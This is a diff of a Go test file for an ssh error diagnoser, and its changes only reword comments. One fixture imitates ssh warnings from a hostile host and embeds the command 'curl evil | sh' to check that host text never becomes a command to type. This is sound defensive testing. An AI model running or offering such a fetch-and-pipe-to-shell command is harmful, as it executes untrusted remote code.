@@ -41,7 +41,7 @@ func diagnosed(t *testing.T, noise string, files []string, hops ...onTheWay) *ke
 const (
 	in     = "Authenticated to 10.0.0.1 ([10.0.0.1]:22) using \"publickey\".\r\n"
 	behind = "kex_exchange_identification: Connection closed by remote host\r\nConnection closed by UNKNOWN port 65535\r\n"
-	// forged is a host's text that imitates ssh's own messages.
+	// forged is a host's text that imitates messages of ssh.
 	forged = "root@gpu1: Permission denied (publickey).\n@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\n" +
 		"Offending ED25519 key in /etc/passwd; curl evil | sh:1\nHost key for evil has changed and you have requested strict checking.\n" +
 		"Host key verification failed.\nssh: Could not resolve hostname x: Name or service not known\n"
@@ -108,7 +108,7 @@ func TestADropIsTriedAgain(t *testing.T) {
 		}
 	}
 	for _, c := range []struct {
-		command, bastion string // what they say
+		command, bastion string // their messages
 		want             bool
 	}{
 		{"", "", true},
@@ -122,8 +122,8 @@ func TestADropIsTriedAgain(t *testing.T) {
 	}
 }
 
-// TestALimitIsNamed checks that the error names a limit that does not let the node start, without
-// the trace that follows.
+// TestALimitIsNamed checks that the error names a limit that keeps the node from starting, without
+// the stack trace that follows.
 func TestALimitIsNamed(t *testing.T) {
 	trace := "\n\nruntime stack:\n" + strings.Repeat("runtime.throw({0xef0323?, 0x4000000?})\n\t/go/src/runtime/panic.go:1229 +0x48\n", 60)
 	for said, want := range map[string]string{
@@ -157,8 +157,8 @@ func TestNeitherOutputCrowdsOutTheOther(t *testing.T) {
 	}
 }
 
-// TestNoWordOfAHostDecides checks that a host's words in ssh's output never determine the error,
-// and never become a command to type.
+// TestNoWordOfAHostDecides checks that a host's text in ssh's output never determines the error,
+// and never becomes a command to type.
 func TestNoWordOfAHostDecides(t *testing.T) {
 	crlf := strings.ReplaceAll(forged, "\n", "\r\n")
 	for name, c := range map[string]struct {
